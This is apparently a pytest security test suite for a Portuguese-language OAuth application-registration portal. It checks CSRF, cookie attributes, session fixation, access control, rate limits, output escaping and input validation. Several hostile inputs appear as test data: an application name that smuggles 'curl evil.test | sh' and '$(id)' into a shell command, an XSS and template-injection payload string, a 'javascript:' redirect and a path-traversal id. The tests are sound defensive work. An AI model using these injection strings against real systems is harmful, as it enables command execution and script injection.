"""What the page does for nobody else: forms of other sites, planted cookies, other people's applications, floods."""

from __future__ import annotations

import asyncio
import base64
import shlex
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from aiohttp import FormData

from foundation.ids import new_id
from hsm_service.registration.domain.application import MOST_OF_ONE, MOST_WAITING, MOST_WAITING_OF_ONE
from hsm_service.registration.errors import BadField
from hsm_service.registration.service.applications import read_certificates
from hsm_service.registration.service.sign_ins import LIFE
from tests.registration.owners import (
    HOME,
    JOAO,
    WISH,
    Browser,
    in_use,
    operator,
    owner,
    registered,
    seen_in,
    token_status,
    turned_on,
)
from tests.support.client_certificates import Identity
from tests.support.oauth_requests import answer_in, authorize_path
from tests.support.signing_callers import ORIGIN
from tests.support.signing_world import IN_MODULES_LOOP, World

pytestmark = IN_MODULES_LOOP

ACTS = (
    "desistir", "segredo", "segredo-anterior", "retornos", "retornos/desistir", "avisos", "avisos/teste",
)  # fmt: skip


async def rows(world: World) -> list[Any]:
    """Everything that a form could change."""
    found = []
    for table in ("registration.applications", "registration.changes", "oauth.clients", "webhooks.addresses"):
        found += [dict(row) for row in await world.owner.fetch(f"SELECT * FROM {table} ORDER BY 1")]
    return found


async def test_forms_of_other_sites_do_nothing(world: World) -> None:
    """Another origin, none, the app host's, or a form of another sign-in: 403 and nothing changed, each by itself."""
    await turned_on(world)
    maria = await owner(world)
    client, _ = await in_use(world, maria)
    joao = await owner(world, JOAO, "JOAO")
    before = await rows(world)
    fields = {"redirects": "https://contratos.test/x", "webhook": "https://evil.test/x", "version": maria.version}
    paths = [f"{HOME}/{client}/{act}" for act in ACTS] + [f"{HOME}/nova", f"{HOME}/sair"]
    for origin in ("https://evil.test", None, "https://app.linkid.test", "null", f"{ORIGIN}:8443"):
        maria.origin = origin
        for path in paths:
            kept = maria.form
            await maria.post(path, **fields)
            assert maria.status == 403, (origin, path)
            maria.text = f'name="form" value="{kept}"'
    maria.origin = ORIGIN
    for form in (joao.form, "", "x" * 43, None):
        for path in paths:
            await maria.post(path, _form=form or "", **fields)
            assert maria.status == 403, (form, path)
    async with world.client.post(
        paths[0],
        data={"form": "x"},
        headers={
            "Origin": ORIGIN,
            "Sec-Fetch-Site": "same-site",
            "Cookie": f"__Host-linkid-integradores={maria.cookie}",
        },
    ) as response:
        assert response.status == 403
    assert await rows(world) == before
    assert client in await maria.get(HOME), "still signed in"


async def test_the_cookie_is_a_strict_one(world: World) -> None:
    """Its name, and its attributes, keep it from other hosts, scripts and other sites' requests."""
    await turned_on(world)
    browser = Browser(world)
    await browser.get(f"{HOME}/entrar")
    async with world.client.get(f"{HOME}/entrar", allow_redirects=False) as response:
        given = response.cookies["__Host-linkid-integradores"]
    assert given["secure"] is True
    assert given["httponly"] is True
    assert (given["samesite"], given["path"], given["domain"]) == ("Strict", "/", "")


async def test_nobody_is_signed_in_as_somebody_else(world: World) -> None:
    """A planted cookie is dead once its owner signed in; another browser's code or state signs nobody in; and nothing
    of it works twice."""
    await turned_on(world)
    credential = await world.credential(number=JOAO)
    attacker, victim = Browser(world), Browser(world)
    # Fixation: the victim's browser got the attacker's cookie, and signs in with it.
    await attacker.get(f"{HOME}/entrar")
    planted = victim.cookie = attacker.cookie
    back = await attacker.approve(credential)
    await victim.get(back)
    assert victim.cookie != planted
    attacker.cookie = planted
    assert "Entrar com o celular" in await attacker.get(HOME), "the planted one opens nothing"
    # The way back, a second time, with either cookie.
    for cookie in (planted, victim.cookie):
        again = Browser(world)
        again.cookie = cookie
        await again.get(back)
        assert again.status == 401
    # Login CSRF: the victim is sent to the attacker's way back.
    await attacker.get(f"{HOME}/entrar")
    back = await attacker.approve(credential)
    other = Browser(world)
    await other.get(f"{HOME}/entrar")
    state = other.cookie.rpartition("_")[0]
    for address in (back, back.replace(attacker.cookie.rpartition("_")[0], state), f"{HOME}/entrar/volta"):
        await other.get(address)
        assert other.status == 401, address
        assert "Entrar com o celular" in await other.get(HOME)


async def test_links_of_other_sites_open_nothing(world: World) -> None:
    """Another site's link to the way in shows the page: no cookie takes the place of one, and no phone is asked."""
    await turned_on(world)
    maria = await owner(world)
    before = len(world.links.links)
    for site in ("cross-site", "same-site"):
        headers = {"Sec-Fetch-Site": site}
        async with world.client.get(f"{HOME}/entrar", headers=headers, allow_redirects=False) as response:
            assert (response.status, response.headers["Location"]) == (303, HOME)
            assert "Set-Cookie" not in response.headers
    assert len(world.links.links) == before
    assert "Suas aplicações" in await maria.get(HOME)


async def test_no_program_is_the_page(world: World) -> None:
    """The page's own client leads nobody anywhere on the authorize page, and has no secret that anybody knows."""
    await turned_on(world)
    page = str(await world.owner.fetchval("SELECT client FROM registration.page"))
    for redirect in (f"{ORIGIN}{HOME}/entrar/volta", "https://evil.test/", None):
        async with world.client.get(authorize_path(page, redirect_uri=redirect), allow_redirects=False) as response:
            assert response.status == (200 if redirect is None else 400)
    browser = Browser(world)
    await browser.get(f"{HOME}/entrar")
    code = answer_in(await browser.approve(await world.credential(number=JOAO)))["code"]
    form = {"grant_type": "authorization_code", "client_id": page, "client_secret": "cls_x", "code": code}
    async with world.client.post("/oauth2/token", data=form) as response:
        assert response.status == 401


async def test_leaving_and_being_late(world: World) -> None:
    """Out is out, also for who kept the cookie; a sign-in ends by itself; forms of one that is over do nothing."""
    await turned_on(world)
    maria = await owner(world)
    client, _ = await registered(world, maria)
    kept, page = maria.cookie, maria.text
    await maria.post(f"{HOME}/sair")
    assert maria.status == 303
    maria.cookie, maria.text = kept, page
    await maria.post(f"{HOME}/{client}/desistir")
    assert maria.status == 401
    again = await owner(world)
    await again.get(f"{HOME}/{client}")
    page = again.text
    world.clock.advance(LIFE)
    again.text = page
    await again.post(f"{HOME}/{client}/desistir")
    assert again.status == 401
    await again.get(f"{HOME}/{client}")
    assert (again.status, again.headers["Location"]) == (303, HOME)
    assert await world.owner.fetchval("SELECT count(*) FROM registration.applications") == 1


async def test_other_peoples_applications_do_not_exist(world: World) -> None:
    """Every address and act answers about somebody else's as about none: 404, the same words, nothing changed."""
    await turned_on(world)
    maria = await owner(world)
    client, secret = await in_use(world, maria)
    joao = await owner(world, JOAO, "JOAO")
    await registered(world, joao)
    before, form = await rows(world), joao.form
    nothing = new_id("cli")
    for act in ("", *(f"/{act}" for act in ACTS)):
        said = []
        for one in (client, nothing, "cli_x", "..%2F..%2Fetc"):
            path = f"{HOME}/{one}{act}"
            if act:
                await joao.post(
                    path, _form=form, version="2", redirects="https://contratos.test/y", webhook="https://a.test/"
                )
            else:
                await joao.get(path)
            said.append((joao.status, joao.text.partition("<main")[2].partition("pedido <code>")[0]))
        assert said[0][0] == 404, act
        assert len(set(said)) == 1, act
    assert await rows(world) == before
    assert await token_status(world, client, secret) == 200


async def test_of_two_windows_the_second_is_told(world: World) -> None:
    """Nothing is overwritten that its owner did not see; of ten who saw the same, one changes something."""
    await turned_on(world)
    maria = await owner(world)
    client, _ = await in_use(world, maria)
    form, seen = maria.form, maria.version
    first, second = "https://contratos.test/primeira", "https://contratos.test/segunda"
    await maria.post(f"{HOME}/{client}/retornos", redirects=first)
    await maria.post(f"{HOME}/{client}/retornos", _form=form, version=seen, redirects=second)
    assert maria.status == 409
    assert "Nada foi gravado" in maria.text
    assert first in maria.text
    assert second not in maria.text
    for act in ("segredo", "avisos", "retornos/desistir", "segredo-anterior"):
        await maria.post(f"{HOME}/{client}/{act}", _form=form, version=seen, webhook="https://contratos.test/h")
        assert maria.status == 409, act
    await maria.get(f"{HOME}/{client}")
    windows = [Browser(world) for _ in range(10)]
    for one in windows:
        one.cookie, one.text = maria.cookie, maria.text
    await asyncio.gather(
        *(
            one.post(f"{HOME}/{client}/retornos", redirects=f"https://contratos.test/{number}")
            for number, one in enumerate(windows)
        )
    )
    assert sorted(one.status for one in windows) == [200] + [409] * 9
    # By the Brazilian API an application changes its own addresses: a form that did not see that is told, too.
    await maria.get(f"{HOME}/{client}")
    await world.owner.execute("UPDATE oauth.clients SET redirects = '{https://contratos.test/psc}'")
    await maria.post(f"{HOME}/{client}/retornos", redirects=second)
    assert await world.owner.fetchval("SELECT redirects FROM oauth.clients WHERE id = $1", client) == [second]


async def test_floods(world: World) -> None:
    """Five wait for one owner, two hundred for all, twenty belong to one; rivals do not slip through; visitors too."""
    await turned_on(world)
    maria = await owner(world)
    await maria.get(f"{HOME}/nova")
    windows = [Browser(world) for _ in range(8)]
    for one in windows:
        one.cookie, one.text = maria.cookie, maria.text
    await asyncio.gather(*(one.post(f"{HOME}/nova", **WISH) for one in windows))
    assert sorted(one.status for one in windows) == [200] * MOST_WAITING_OF_ONE + [429] * 3
    await world.owner.execute("UPDATE registration.applications SET admitted_at = now(), secret_digest = NULL")
    copy = """INSERT INTO registration.applications (client, owner, owner_name, name, about, method, grants, redirects,
                  keys, signs_asks, certificates, asked_at, admitted_at)
              SELECT 'cli_' || lpad(i::text, 26, '0'), coalesce($3::bytea, sha256(i::text::bytea)), 'X', 'X', '',
                     'none', '{authorization_code}', '{}', '[]', false, '{}', now(), $4
              FROM generate_series($1::int, $2::int) i"""
    hers = await world.owner.fetchval("SELECT owner FROM registration.applications LIMIT 1")
    await world.owner.execute(copy, 1, MOST_OF_ONE - MOST_WAITING_OF_ONE, hers, world.clock.now())
    await maria.get(f"{HOME}/nova")
    await maria.post(f"{HOME}/nova", **WISH)
    assert maria.status == 429
    joao = await owner(world, JOAO, "JOAO")
    await world.owner.execute(copy, 1000, 999 + MOST_WAITING, None, None)
    await joao.get(f"{HOME}/nova")
    await joao.post(f"{HOME}/nova", **WISH)
    assert joao.status == 429
    assert "limite" in joao.text
    world.clock.advance(timedelta(hours=1))
    stranger = Browser(world)
    for _ in range(21):
        await stranger.get(f"{HOME}/entrar")
    assert (stranger.status, stranger.headers["Retry-After"]) == (429, "60")


async def test_an_operator_may_copy_the_command(world: World) -> None:
    """A name that a shell would read is quoted where the page shows what an operator types."""
    await turned_on(world)
    maria = await owner(world)
    name = "Cia '; curl evil.test | sh; $(id) `id`"
    client, _ = await registered(world, maria, name=name)
    seen = seen_in(await operator(world, "list"), client)
    shown = maria.text.partition("<pre")[2].partition("<code>")[2].partition("</code>")[0]
    assert shlex.split(shown) == ["linkid", "application", "admit", client, "--name", name, "--seen", seen]


NASTY = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>{{1234567*7}}"


async def test_what_is_typed_is_never_markup(world: World) -> None:
    """Each field comes back as text, also in what an error says, under a policy that runs nothing."""
    await turned_on(world)
    maria = await owner(world, name="EVE <b>")
    await maria.get(f"{HOME}/nova")
    form = maria.form

    async def raw(path: str, **fields: str) -> str:
        headers = maria.headers_of_a_form
        async with world.client.post(path, data={"form": form, **fields}, headers=headers) as response:
            csp = response.headers["Content-Security-Policy"]
            assert "script-src" not in csp
            assert csp.startswith("default-src 'none'")
            assert response.headers["Cache-Control"] == "no-store"
            return await response.text()

    for field in ("name", "about", "redirects", "method", "keys", "tls_subject", "certificates"):
        for method in ("key", "tls", "self_signed", "secret"):
            text = await raw(f"{HOME}/nova", **{**WISH, "method": method, field: NASTY})
            assert "<script" not in text, field
            assert "<img" not in text, field
            assert "<b>EVE" not in text
            assert "8641969" not in text, "no template in what is typed"
    text = await raw(f"{HOME}/nova", **{**WISH, "name": NASTY[:60], "about": NASTY})
    assert "&lt;script&gt;" in text
    assert "<script" not in text
    client = Browser(world)
    client.text = text
    text = await raw(f"{HOME}/{client.client}/avisos", version="1", webhook=NASTY)
    assert "<script" not in text


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"name": ""}, "name"),
        ({"name": "x" * 61}, "name"),
        ({"name": "...\u202e"}, "name"),
        ({"about": "x" * 501}, "about"),
        ({"people": None, "itself": None}, "people"),
        ({"people": None, "refresh": "1"}, "refresh"),
        ({"redirects": ""}, "redirects"),
        ({"redirects": "http://contratos.test/"}, "redirects"),
        ({"redirects": "https://contratos.test/#x"}, "redirects"),
        ({"redirects": "https://a@contratos.test/"}, "redirects"),
        ({"redirects": "javascript:alert(1)"}, "redirects"),
        ({"redirects": "\n".join(f"https://a.test/{n}" for n in range(11))}, "redirects"),
        ({"method": "none"}, "method"),
        ({"method": "magic"}, "method"),
        ({"method": "key"}, "keys"),
        ({"method": "key", "keys": "{"}, "keys"),
        ({"method": "key", "keys": "[]"}, "keys"),
        ({"method": "key", "keys": '{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}'}, "keys"),
        ({"method": "key", "keys": '{"kty":"EC","crv":"P-256","x":"AA","y":"AA","d":"AA"}'}, "keys"),
        ({"method": "key", "keys": "[" * 10_000}, "keys"),
        ({"method": "secret", "signs_asks": "1"}, "signs_asks"),
        ({"method": "tls"}, "tls_subject"),
        ({"method": "tls", "tls_subject": "CN=erp"}, "tls_subject"),
        ({"method": "self_signed"}, "certificates"),
        ({"method": "self_signed", "certificates": "x"}, "certificates"),
        ({"method": "self_signed", "certificates": "-----BEGIN PRIVATE KEY-----"}, "certificates"),
    ],
)
async def test_what_is_wrong_is_said_where_it_is(world: World, fields: dict[str, Any], field: str) -> None:
    """400, the field is marked, what was typed is still there, and nothing was registered."""
    await turned_on(world)
    maria = await owner(world)
    await maria.get(f"{HOME}/nova")
    await maria.post(f"{HOME}/nova", **{**WISH, **fields})
    assert maria.status == 400
    assert f'id="{field}-error"' in maria.text
    assert WISH["about"] in maria.text or field == "about"
    assert await world.owner.fetchval("SELECT count(*) FROM registration.applications") == 0


async def test_certificates_of_no_version() -> None:
    """A certificate whose version X.509 does not have is a wrong field, not a crash."""
    der = Identity("CN=erp", now=datetime.now(UTC)).der
    odd = der.replace(bytes.fromhex("a003020102"), bytes.fromhex("a003020106"), 1)
    assert odd != der
    text = base64.encodebytes(odd).decode()
    with pytest.raises(BadField):
        read_certificates(f"-----BEGIN CERTIFICATE-----\n{text}-----END CERTIFICATE-----\n")


async def test_bodies_that_are_no_form(world: World) -> None:
    """Too large, another type, a field twice, NUL, not UTF-8, in the address: refused in a page, never with a 500."""
    await turned_on(world)
    maria = await owner(world)
    headers = maria.headers_of_a_form
    twice = FormData([("form", maria.form), ("name", "a"), ("name", "b")])
    cases: list[tuple[Any, str | None, int]] = [
        (b"name=" + b"a" * 200_000, "application/x-www-form-urlencoded", 413),
        (b"{}", "application/json", 415),
        (twice, None, 400),
        (b"name=%00", "application/x-www-form-urlencoded", 400),
        (b"name=\xff", "application/x-www-form-urlencoded", 400),
        (b"", "application/x-www-form-urlencoded", 403),
    ]
    for body, kind, status in cases:
        sent = {**headers, **({} if kind is None else {"Content-Type": kind})}
        for path in (f"{HOME}/nova", f"{HOME}/sair", f"{HOME}/{new_id('cli')}/segredo"):
            async with world.client.post(path, data=body, headers=sent, allow_redirects=False) as response:
                assert response.status == status, (path, body[:20] if isinstance(body, bytes) else body)
                assert response.content_type == "text/html"
    async with world.client.post(f"{HOME}/nova?name=x", data={"form": maria.form}, headers=headers) as response:
        assert response.status == 400
    for cookie in ("", "x", "sin_" + "0" * 26, "sin_" + "0" * 26 + "_" + "a" * 200, maria.cookie[:-1]):
        other = Browser(world)
        other.cookie = cookie
        assert "Entrar com o celular" in await other.get(HOME)
    for version in ("0", "-1", "x", "1e3", "9" * 30, None):
        client, _ = ("cli_" + "0" * 26, None)
        await maria.get(HOME)
        await maria.post(f"{HOME}/{client}/segredo", version=version)
        assert maria.status in (400, 404)


async def test_a_stolen_database_signs_nobody_in(world: World) -> None:
    """Its rows have digests: of sign-ins, of secrets that wait; and an owner is no CPF."""
    await turned_on(world)
    maria = await owner(world)
    _, secret = await registered(world, maria)
    dump = ""
    for table in ("sign_ins", "applications", "changes", "page"):
        dump += str([dict(row) for row in await world.owner.fetch(f"SELECT * FROM registration.{table}")])
    assert secret is not None
    for kept in (secret, secret.rpartition("_")[2], maria.cookie.rpartition("_")[2], maria.form, "52998224725"):
        assert kept not in dump
